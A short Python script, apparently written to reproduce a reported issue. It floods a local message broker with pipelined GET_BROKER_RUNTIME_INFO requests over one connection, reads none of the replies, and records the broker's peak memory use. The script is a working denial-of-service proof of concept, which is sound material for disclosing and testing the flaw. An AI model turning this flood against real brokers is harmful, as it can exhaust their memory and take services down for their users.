#!/usr/bin/env python3
"""Issue 14 figure: one connection pipelining N GET_BROKER_RUNTIME_INFO requests and reading
none of the answers; prints the broker's peak RSS. Usage: pipelined_flood.py BROKER_PID PORT N."""
import socket, json, struct, time, sys
pid=int(sys.argv[1]); port=int(sys.argv[2]); n=int(sys.argv[3])
def rss():
    for l in open(f'/proc/{pid}/status'):
        if l.startswith('VmRSS'): return int(l.split()[1])
def frame(code, opaque):
    h=json.dumps({"code":code,"language":"JAVA","version":479,"opaque":opaque,"flag":0,"extFields":{}}).encode()
    return struct.pack('>II', 4+len(h), len(h)) + h
print('before', rss(), 'kB')
s=socket.socket(); s.connect(('127.0.0.1',port)); s.setblocking(False)
sent=0; peak=0; t0=time.time()
buf=b''.join(frame(28, i) for i in range(n))
off=0
while off < len(buf) and time.time()-t0 < 20:
    try:
        off += s.send(buf[off:off+65536])
    except BlockingIOError:
        time.sleep(0.01)
    peak=max(peak, rss())
for _ in range(40):
    peak=max(peak, rss()); time.sleep(0.05)
print(f'{n} pipelined GET_BROKER_RUNTIME_INFO, none read: sent {off} of {len(buf)} bytes in {time.time()-t0:.1f}s; peak RSS {peak} kB')
s.close(); time.sleep(2)
print('after close', rss(), 'kB')
